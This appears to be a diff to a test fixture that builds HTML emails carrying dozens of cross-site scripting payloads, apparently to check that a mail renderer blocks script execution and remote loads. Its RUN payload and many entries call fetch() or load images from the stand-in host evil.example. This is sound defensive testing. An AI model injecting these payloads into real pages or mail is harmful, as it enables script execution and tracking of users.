@@ -2,7 +2,8 @@
 
 EVIL = "http://evil.example"
 
-RUN = "(top.ran=1,parent.ran=1,window.ran=1,top.document.title='HACKED',fetch('http://evil.example/ran'))"
+# What may fail comes last and keeps nothing else from running. Without quotes and spaces, so that it fits wherever it stands.
+RUN = f"try{{window.ran=1}}catch{{}}try{{fetch(`{EVIL}/ran`)}}catch{{}}try{{top.document.title=`HACKED`}}catch{{}}"
 
 # What loads where pictures of other servers do, which it asks for by leading to itself.
 REMOTE = f"<img src='{EVIL}/remote.png'>"
@@ -28,7 +29,7 @@ BODIES = LEADS_TO_ITSELF | {
     "script-in-select": f"<select><option><script>{RUN}</script></select>",
     "script-in-cdata": f"<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={RUN}//\"></svg>",
     "image-error": f"<img src=x onerror=\"{RUN}\">",
-    "image-load": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"{RUN}\">",
+    "image-load": f"<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' onload=\"{RUN}\">",
     "body-load": f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\" onhashchange=\"{RUN}\">",
     "focus": f"<input autofocus onfocus=\"{RUN}\"><select autofocus onfocus=\"{RUN}\"></select>",
     "animation-start": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{RUN}\">x</p>",
@@ -47,7 +48,7 @@ BODIES = LEADS_TO_ITSELF | {
     "svg-filter": f"<svg><filter id=f><feImage href='{EVIL}/filter'/></filter><rect filter='url({EVIL}/f#x)' width=9 height=9 /></svg>",
     "link-javascript": f"<a href=\"javascript:{RUN}\">x</a>",
     "link-javascript-hidden": f"<a href=\" java&#x09;scr&#10;ipt&colon;{RUN}\">x</a>",
-    "link-data": "<a href='data:text/html,<script>top.ran=1</script>'>x</a>",
+    "link-data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
     "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
     "link-blob": "<a href='blob:http://evil.example/1'>x</a><a href='filesystem:http://evil.example/1'>x</a>",
     "link-to-top": f"<base target=_top><a href='{EVIL}/top' target=_top>x</a><a href='{EVIL}/parent' target=_parent>x</a>",
@@ -90,7 +91,7 @@ BODIES = LEADS_TO_ITSELF | {
     "speculation": f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/speculation\"]}}]}}</script>",
     "picture": f"<picture><source srcset='{EVIL}/srcset'><img src='{EVIL}/img' srcset='{EVIL}/2x 2x' lowsrc='{EVIL}/low'></picture>",
     "media": f"<video poster='{EVIL}/poster' src='{EVIL}/v' autoplay></video><audio src='{EVIL}/a' autoplay></audio><track src='{EVIL}/t'>",
-    "image-svg-data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.ran=1</script><image href='{EVIL}/nested'/></svg>\">",
+    "image-svg-data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script><image href='{EVIL}/nested'/></svg>\">",
     "clobbering": "<form id=message><input name=children></form><img name=body><a id=state></a><a id=rows name=rows></a>",
     "huge-nesting": "<div>" * 20000 + "x",
     "huge-attribute": f"<p title='{'x' * 500_000}'>x</p>",
@@ -136,5 +137,5 @@ MAILS = {name: html(body) for name, body in BODIES.items()} | {
     "endless-field": fields(f"Subject: {'long ' * 50_000}"),
     "many-fields": fields(*[f"X-{number}: {MARKUP}" for number in range(3000)]),
     "nothing": b"\r\n",
-    "no-header": b"\x00\xff\xfe<script>top.ran=1</script>\r\n",
+    "no-header": b"\x00\xff\xfe<script>" + RUN.encode() + b"</script>\r\n",
 }
